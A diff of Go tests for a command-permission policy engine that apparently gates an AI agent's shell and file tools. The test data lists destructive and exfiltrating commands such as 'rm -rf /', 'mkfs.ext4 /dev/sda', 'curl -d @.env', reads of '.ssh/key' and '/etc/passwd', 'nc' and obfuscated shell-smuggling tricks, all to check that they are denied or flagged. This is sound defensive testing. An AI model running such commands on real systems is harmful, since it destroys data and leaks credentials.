@@ -97,12 +97,60 @@ E`, `for i in 1 2; do rm -rf out$i; done`, `sudo`, `ssh host sudo systemctl rest
 	if d := off.Judge(command(t, "/work/space", "rm -rf /")); d.Effect != policy.Allow {
 		t.Error("the built-in rules cannot be left out")
 	}
-	allowed := rules(t, policy.Rules{Rules: []policy.Rule{rule(policy.Allow, "sudo apt-get *"), {Effect: policy.Allow, Name: "all", Tools: []string{"bash"}}}})
-	if d := allowed.Judge(command(t, "/work/space", "sudo apt-get update")); d.Effect != policy.Allow {
-		t.Errorf("a rule for the command does not go before a built-in one: %+v", d)
+}
+
+// TestBuiltinFloor checks that only rules that name a built-in rule lower it.
+func TestBuiltinFloor(t *testing.T) {
+	t.Setenv("HOME", "/home/me")
+	named := func(effect policy.Effect, commands []string, builtins ...string) policy.Rule {
+		return policy.Rule{Effect: effect, Name: string(effect) + " named", Commands: commands, Builtins: builtins}
 	}
-	if d := allowed.Judge(command(t, "/work/space", "sudo ls")); d.Effect != policy.Ask {
-		t.Errorf("a rule for all of bash goes before a built-in one: %+v", d)
+	for _, tc := range []struct {
+		rules   []policy.Rule
+		command string
+		want    policy.Effect
+	}{
+		{[]policy.Rule{rule(policy.Ask, "rm *")}, `rm -rf /`, policy.Deny},
+		{[]policy.Rule{rule(policy.Ask, "*")}, `rm -rf /`, policy.Deny},
+		{[]policy.Rule{rule(policy.Allow, "rm *")}, `rm -rf /`, policy.Deny},
+		{[]policy.Rule{rule(policy.Allow, "rm -rf /")}, `rm -rf /`, policy.Deny},
+		{[]policy.Rule{rule(policy.Allow, "sudo apt-get *")}, `sudo apt-get update`, policy.Ask},
+		{[]policy.Rule{{Effect: policy.Allow, Name: "all", Tools: []string{"bash"}}}, `sudo ls`, policy.Ask},
+		{[]policy.Rule{named(policy.Allow, []string{"sudo apt-get *"}, "privilege")}, `sudo apt-get update`, policy.Allow},
+		{[]policy.Rule{named(policy.Allow, []string{"sudo apt-get *"}, "privilege")}, `sudo ls`, policy.Ask},
+		{[]policy.Rule{named(policy.Allow, []string{"sudo *"}, "privilege")}, `sudo rm -rf /`, policy.Deny},
+		{[]policy.Rule{named(policy.Allow, []string{"rm *"}, "privilege")}, `rm -rf /`, policy.Deny},
+		{[]policy.Rule{named(policy.Ask, nil, "remove-system")}, `rm -rf /`, policy.Ask},
+		{[]policy.Rule{named(policy.Ask, nil, "remove-system")}, `rm x`, policy.Allow},
+		{[]policy.Rule{named(policy.Ask, nil, "remove-system")}, `mkfs.ext4 /dev/sda`, policy.Deny},
+		{[]policy.Rule{named(policy.Allow, nil, "remove-system"), rule(policy.Ask, "rm *")}, `rm -rf /`, policy.Ask},
+		{[]policy.Rule{named(policy.Allow, nil, "remove-system"), rule(policy.Deny, "rm *")}, `rm -rf /`, policy.Deny},
+		{[]policy.Rule{named(policy.Deny, nil, "privilege")}, `sudo ls`, policy.Deny},
+		{[]policy.Rule{{Effect: policy.Deny, Name: "d", Builtins: []string{"remove-system"}, Paths: []string{"/x/**"}}}, `rm -rf / $X`, policy.Deny},
+		{[]policy.Rule{{Effect: policy.Ask, Name: "d", Builtins: []string{"remove-system"}, Paths: []string{"/x/**"}}}, `rm -rf / $X`, policy.Deny},
+		{[]policy.Rule{named(policy.Allow, nil, "remove-system")}, `$X -rf /`, policy.Ask},
+	} {
+		if d := rules(t, policy.Rules{Rules: tc.rules}).Judge(command(t, "/work/space", tc.command)); d.Effect != tc.want {
+			t.Errorf("%s with %v: %s, wanted %s (%s: %s)", tc.command, tc.rules, d.Effect, tc.want, d.Rule, d.Reason)
+		}
+	}
+	// The rules of a project file never lower a built-in rule.
+	project := policy.Rule{Effect: policy.Ask, Name: "p", Builtins: []string{"remove-system"}}
+	if bad := project.Prepare(); len(bad) > 0 {
+		t.Fatal(bad)
+	}
+	if d := policy.New(policy.Rules{Project: []policy.Rule{project}}).Judge(command(t, "/w", "rm -rf /")); d.Effect != policy.Deny {
+		t.Errorf("a project file lowers a built-in rule: %+v", d)
+	}
+	wrong := policy.Rule{Effect: policy.Ask, Name: "w", Builtins: []string{"removes-system"}}
+	if bad := wrong.Prepare(); len(bad) != 1 || bad[0].Attribute != "builtin" || !strings.Contains(bad[0].Err.Error(), `Did you mean "remove-system"?`) {
+		t.Errorf("%v", bad)
+	}
+	// Nobody is asked about what a built-in rule denies.
+	asker := &peer{answer: tool.Answer{Outcome: tool.Accepted}}
+	p := rules(t, policy.Rules{Rules: []policy.Rule{rule(policy.Ask, "rm *")}})
+	if _, err := p.Check(context.Background(), command(t, "/w", "rm -rf /"), asker, nil); err == nil || asker.asked != nil {
+		t.Errorf("%v, asked %v", err, asker.asked)
 	}
 }
 
@@ -141,11 +189,11 @@ func TestAllowList(t *testing.T) {
 	}})
 	for effect, commands := range map[policy.Effect][]string{
 		policy.Allow: {
-			`git status`, `git status --short`, `/usr/bin/git status`, `cd x && go test ./...`, `env X=1 go test`, `timeout 5 go test`, `sh -c 'ls -l'`, `ls | ls`, `echo $(ls)`, `if ls; then go test; fi`, `git -C x status`, `f() { ls; }; f`, `bash build.sh`, `X=1; ls $X`, `ls > out`,
+			`git status`, `git status --short`, `/usr/bin/git status`, `cd x && go test ./...`, `env X=1 go test`, `timeout 5 go test`, `bash -c 'ls -l'`, `ls | ls`, `echo $(ls)`, `if ls; then go test; fi`, `git -C x status`, `f() { ls; }; f`, `bash build.sh`, `X=1; ls $X`, `ls > out`,
 			`[ -f x ] && ls`, `export X=1`, `for i in 1 2; do ls $i; done`,
 		},
 		policy.Deny: {
-			`git push`, `./git status`, `/tmp/git status`, `cat x`, `ls; cat x`, `ls $(cat x)`, `ls & rm x`, "ls\nrm x", `sh -c 'cat x'`, `$X`, `sh -c "$X"`, `eval "$X"`, `bash other.sh`, `bash build.sh x`, `sudo ls`, `xargs cat`, `PATH=. git status`, `GIT_SSH_COMMAND=x git status`, `LD_PRELOAD=x ls`,
+			`git push`, `./git status`, `/tmp/git status`, `cat x`, `ls; cat x`, `ls $(cat x)`, `ls & rm x`, "ls\nrm x", `sh -c 'ls'`, `bash -c 'cat x'`, `$X`, `bash -c "$X"`, `eval "$X"`, `bash other.sh`, `bash build.sh x`, `sudo ls`, `xargs cat`, `PATH=. git status`, `GIT_SSH_COMMAND=x git status`, `LD_PRELOAD=x ls`,
 			`export PATH=.; ls`, `git -c core.pager=x status`, `git() { cat x; }; git status`, `alias ls='rm x'`, `go test -exec x`, `if`, `python -c 1`, `ls | sh`, `source x`, `. x`, `hash -p /tmp/x ls`, `find . -exec ls {} +`, `tar -tx y`, `exec cat`, `ls <(cat x)`, `l\s; c\at x`, `trap 'cat x' EXIT`, `env -S 'cat x'`, `bash -c 'ls' ; nc x`,
 		},
 	} {
@@ -179,7 +227,7 @@ func TestPathsKindsToolsAndDomains(t *testing.T) {
 		{file("read", "a"), policy.Allow}, {file("read", ".env"), policy.Deny}, {file("read", "sub/.env"), policy.Deny}, {file("write", "sub/../.env"), policy.Deny}, {file("read", "keys/key"), policy.Deny}, {file("read", ".ssh/key"), policy.Deny},
 		{file("read", "sub/gen/x"), policy.Allow}, {file("write", "sub/gen/x"), policy.Deny}, {file("write", "in/gen/x"), policy.Deny}, {file("write", "gen/x"), policy.Allow}, {file("write", ".environment"), policy.Allow}, {file("read", "self/a"), policy.Deny},
 		{command(t, w, "cat .env"), policy.Deny}, {command(t, w, "cd sub && cat < .env"), policy.Deny}, {command(t, w, "sort x -o .env"), policy.Deny}, {command(t, w, "echo .env"), policy.Allow}, {command(t, w, "echo x >> sub/gen/y"), policy.Deny}, {command(t, w, "cat sub/gen/y"), policy.Allow},
-		{command(t, w, "cat $(echo .env)"), policy.Deny}, {command(t, w, "dd if=x of=.ssh/key"), policy.Allow}, {command(t, w, "cp --target-directory=.ssh x"), policy.Deny}, {command(t, w, "cat keys/key"), policy.Deny}, {command(t, w, "> .env"), policy.Deny}, {command(t, w, "cat x 2> .env"), policy.Deny},
+		{command(t, w, "cat $(echo .env)"), policy.Deny}, {command(t, w, "dd if=x of=.ssh/key"), policy.Deny}, {command(t, w, "cp --target-directory=.ssh x"), policy.Deny}, {command(t, w, "cat keys/key"), policy.Deny}, {command(t, w, "> .env"), policy.Deny}, {command(t, w, "cat x 2> .env"), policy.Deny},
 		{command(t, w, "curl https://api.example.org/x"), policy.Ask}, {command(t, w, "curl https://example.org/x"), policy.Allow}, {command(t, w, "curl -o x http://EVIL.test:8080/"), policy.Ask}, {command(t, w, "git clone git@evil.test:x/y"), policy.Ask}, {command(t, w, "curl --url=https://u:p@evil.test/"), policy.Ask}, {command(t, w, "curl https://notexample.org"), policy.Allow},
 		{other(t, w, "fetch", `{"url":"https://a.b.example.org/"}`), policy.Ask}, {other(t, w, "fetch", `{"url":"https://good.test/?q=evil.test"}`), policy.Allow}, {other(t, w, "mail:send", `{}`), policy.Ask}, {other(t, w, "mailer", `{}`), policy.Allow},
 		{file("read", top+"/readonly/r"), policy.Allow}, {file("read", "../readonly/r"), policy.Allow}, {file("read", top+"/root-evil/x"), policy.Ask}, {file("read", top+"/secret"), policy.Deny}, {file("read", "/etc/passwd"), policy.Deny}, {file("read", "out/secret"), policy.Deny},
@@ -386,5 +434,54 @@ func BenchmarkJudge(b *testing.B) {
 	args := map[string]json.RawMessage{"text": json.RawMessage(`"x"`)}
 	for b.Loop() {
 		p.Judge(&policy.Request{Name: "read", Definition: def, Schema: schema, Call: call, Args: args, Workspace: "/"})
+	}
+}
+
+// TestOverlap checks that a glob and an unknown path are compared on the safe side.
+func TestOverlap(t *testing.T) {
+	top := tree(t)
+	w := filepath.Join(top, "root")
+	for glob, commands := range map[string]map[string]policy.Effect{
+		".env": {
+			`cat "$X"`: policy.Ask, `cat "$X.go"`: policy.Allow, `cat "$X/.env"`: policy.Ask, `cat ./*`: policy.Ask, `cat *.go`: policy.Allow, `cat .e?v`: policy.Ask, `cat .[e]nv`: policy.Ask, `cat sub/$X`: policy.Ask,
+			`cd "$X" && cat .env`: policy.Deny, `cd "$X" && cat a`: policy.Allow, `cat -- -o"$X"`: policy.Ask, `curl -d @.env x`: policy.Deny, `docker run -v ./.env:/x y`: policy.Deny, `cat < "$X"`: policy.Ask, `echo "$X"`: policy.Allow, `./.env`: policy.Deny,
+			`tool:read "$X"`: policy.Allow, `cat $X`: policy.Ask, `ls`: policy.Allow, `ls -l`: policy.Allow,
+		},
+		".ssh/**": {`cat "keys/$X"`: policy.Ask, `cat "sub/$X"`: policy.Ask, `cat sub/*`: policy.Allow, `cat keys/*`: policy.Ask, `ls .ssh`: policy.Deny, `cat "a$X"`: policy.Ask, `cat "$X/a"`: policy.Ask, `cat "$X/../b"`: policy.Ask},
+	} {
+		p := rules(t, policy.Rules{Rules: []policy.Rule{{Effect: policy.Deny, Name: "d", Paths: []string{glob}}}})
+		for c, want := range commands {
+			d := p.Judge(command(t, w, c))
+			if d.Effect != want {
+				t.Errorf("%s with %s: %s, wanted %s (%s)", c, glob, d.Effect, want, d.Reason)
+			}
+			if want == policy.Ask && len(d.Unknown) == 0 {
+				t.Errorf("%s with %s: nothing is reported as unknown", c, glob)
+			}
+		}
+	}
+	// An allow rule for paths never allows an unknown path.
+	p := rules(t, policy.Rules{Default: policy.Deny, Rules: []policy.Rule{{Effect: policy.Allow, Name: "a", Paths: []string{"**"}}}})
+	for c, want := range map[string]policy.Effect{`cat a`: policy.Allow, `cat "$X"`: policy.Deny} {
+		if d := p.Judge(command(t, w, c)); d.Effect != want {
+			t.Errorf("%s: %s, wanted %s", c, d.Effect, want)
+		}
+	}
+}
+
+// TestExisting checks which files the kernel protects.
+func TestExisting(t *testing.T) {
+	top := tree(t)
+	roots := []tool.Root{{Path: filepath.Join(top, "root"), Writable: true}, {Path: filepath.Join(top, "readonly")}}
+	for glob, want := range map[string]string{
+		"sub/**": "root/sub", "a": "root/a", "**/key": "root/.ssh/key", ".ssh": "root/.ssh", "sub/x": "", top + "/root/.ssh/*": "root/.ssh/key", top + "/readonly/**": "", "keys": "root/.ssh", "file-out": "", "in/**": "root/sub",
+	} {
+		got, err := policy.Existing([]string{glob}, roots)
+		if want != "" {
+			want = filepath.Join(top, want)
+		}
+		if err != nil || strings.Join(got, " ") != want {
+			t.Errorf("%s: %q, %v, wanted %q", glob, got, err, want)
+		}
 	}
 }
